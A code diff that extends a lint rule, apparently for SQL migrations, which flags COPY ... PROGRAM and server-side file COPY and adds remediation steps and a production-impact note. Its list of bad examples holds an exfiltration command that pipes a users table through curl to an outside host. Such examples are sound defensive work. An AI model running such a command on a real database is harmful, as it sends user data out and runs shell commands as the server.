@@ -7,6 +7,12 @@ export const rule: Rule = {
   severity: 'error',
   why: 'COPY … PROGRAM starts a shell command as the server; COPY with a file name reads or writes its disk. Both need a superuser or a role that amounts to one.',
   instead: 'Load and export through the client.',
+  production: 'A command runs as the operating-system user of the database server, with all of its data within reach.',
+  steps: [
+    'Load and export through the client (`\\copy`, the driver).',
+    'Where a file has to be read on the server, do it by hand, as an administrator.',
+  ],
+  falseAlarm: 'None is known: a migration has no business on the disk of the server.',
   bad: ["COPY users TO PROGRAM 'curl -d @- https://example.org';", "COPY users FROM '/tmp/users.csv';"],
   good: ["INSERT INTO users (id, email) VALUES (1, 'a@example.org');"],
   statements: {
